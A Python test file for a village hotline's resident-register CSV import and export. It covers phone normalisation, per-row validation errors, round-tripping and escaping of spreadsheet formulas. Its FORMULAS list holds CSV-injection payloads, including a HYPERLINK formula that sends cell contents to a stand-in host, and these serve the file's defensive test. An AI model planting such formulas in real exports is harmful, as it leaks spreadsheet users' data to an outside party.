from hotline.domain import registers, residents
from tests.conftest import BA_LAN, OPERATOR

VIETNAMESE_CSV = """\ufeffHọ tên,Số điện thoại,Thôn,Giới tính,Năm sinh,Người cao tuổi,Vùng trũng,Hội
Nguyễn Văn An,0912 555 001,Yên Nông,Nam,1950,có,có,Hội Nông dân
Lê Thị Bình,01693 555 002,yen bai,Nữ,1990,không,x,Phụ nữ;Đoàn Thanh niên
Sai Số,0912,Yên Nông,Nam,1980,không,không,
Không Thôn,0912 555 004,Hà Nội,Nữ,1980,không,không,
Trần Văn Cường,+84 912 555 005,Đồng Tâm,Nam,2100,không,không,
Phạm Thị Dung,0912555006,Bến Đò,Nữ,1960,chắc,không,
Hoàng Văn Em,0912555007,Bến Đò,Nam,1960,không,không,Hội Cờ Tướng
"""


def test_it_imports_good_rows_and_reports_each_bad_one(demo_db):
    before = demo_db["residents"].count
    report = registers.import_csv(demo_db, VIETNAMESE_CSV, actor=OPERATOR)
    assert (report.imported, report.updated) == (2, 0)
    assert [(e.line, e.reason) for e in report.errors] == [
        (4, "phone_too_short"), (5, "unknown_village"), (6, "bad_birth_year"), (7, "bad_flag"),
        (8, "unknown_association")]
    assert demo_db["residents"].count == before + 2
    binh = residents.by_phone(demo_db, "+84393555002")  # 0169 → 039
    assert binh["gender"] == "F" and binh["low_lying"] == 1 and binh["elderly"] == 0
    assert residents.association_codes(demo_db, binh["id"]) == ["women", "youth"]


def test_reimporting_the_same_file_updates_instead_of_duplicating(demo_db):
    registers.import_csv(demo_db, VIETNAMESE_CSV, actor=OPERATOR)
    count = demo_db["residents"].count
    report = registers.import_csv(demo_db, VIETNAMESE_CSV, actor=OPERATOR)
    assert (report.imported, report.updated) == (0, 2)
    assert demo_db["residents"].count == count


def test_english_headers_without_bom_work(demo_db):
    report = registers.import_csv(demo_db, "phone,name,village,prefers_voice\n0912555010,Thu,Yen Nong,yes\n",
                                  actor=OPERATOR)
    assert (report.imported, report.errors) == (1, [])
    assert residents.by_phone(demo_db, "+84912555010")["prefers_voice"] == 1


def test_a_file_without_a_phone_column_is_refused_whole(demo_db):
    report = registers.import_csv(demo_db, "name,village\nAn,Yen Nong\n", actor=OPERATOR)
    assert [e.reason for e in report.errors] == ["no_phone_column"]
    assert report.imported == 0


def test_export_then_import_changes_nothing(demo_db):
    exported = registers.export_csv(demo_db, actor=OPERATOR)
    before = list(demo_db.query("SELECT * FROM residents ORDER BY id"))
    members = list(demo_db.query("SELECT * FROM memberships ORDER BY 1, 2"))
    report = registers.import_csv(demo_db, exported, actor=OPERATOR)
    assert report.errors == [] and report.imported == 0
    after = list(demo_db.query("SELECT * FROM residents ORDER BY id"))
    strip = lambda rows: [{k: v for k, v in r.items() if k != "updated_at"} for r in rows]  # noqa: E731
    assert strip(after) == strip(before)
    assert list(demo_db.query("SELECT * FROM memberships ORDER BY 1, 2")) == members
    assert BA_LAN in exported


def test_a_row_with_a_control_character_is_reported_not_imported(demo_db):
    report = registers.import_csv(demo_db, "phone,name,village\n0912555011,Lê\x0bVăn Tám,Yên Nông\n"
                                           "0912555012,Lê Văn Chín,Yên Nông\n", actor=OPERATOR)
    assert [(e.line, e.reason, e.detail) for e in report.errors] == [(2, "bad_characters", "name")]
    assert report.imported == 1 and residents.by_phone(demo_db, "+84912555011") is None


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+84912100000 ", "-2+3", "@SUM(A1)", "＝1+1"]


def test_the_export_never_starts_a_cell_with_a_formula_and_imports_back_as_typed(demo_db):
    import csv
    import io

    for n, name in enumerate(FORMULAS):
        residents.register(demo_db, f"+8491255502{n}", "admin", name=name.strip())
    exported = registers.export_csv(demo_db, actor=OPERATOR)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [c for c in cells if c.startswith(registers.FORMULA_START)]
    assert f"'{BA_LAN}" in cells                        # Excel would read +84… as a sum and drop the +
    names_before = {r["phone"]: r["name"] for r in demo_db.query("SELECT phone, name FROM residents")}
    report = registers.import_csv(demo_db, exported, actor=OPERATOR)
    assert report.errors == [] and report.imported == 0
    assert {r["phone"]: r["name"] for r in demo_db.query("SELECT phone, name FROM residents")} == names_before
    assert residents.by_phone(demo_db, "+84912555020")["name"] == FORMULAS[0]


def test_an_apostrophe_typed_by_a_person_is_kept(demo_db):
    registers.import_csv(demo_db, "phone,name,village\n'+84912555013,'Tư' Béo,Yên Nông\n", actor=OPERATOR)
    assert residents.by_phone(demo_db, "+84912555013")["name"] == "'Tư' Béo"
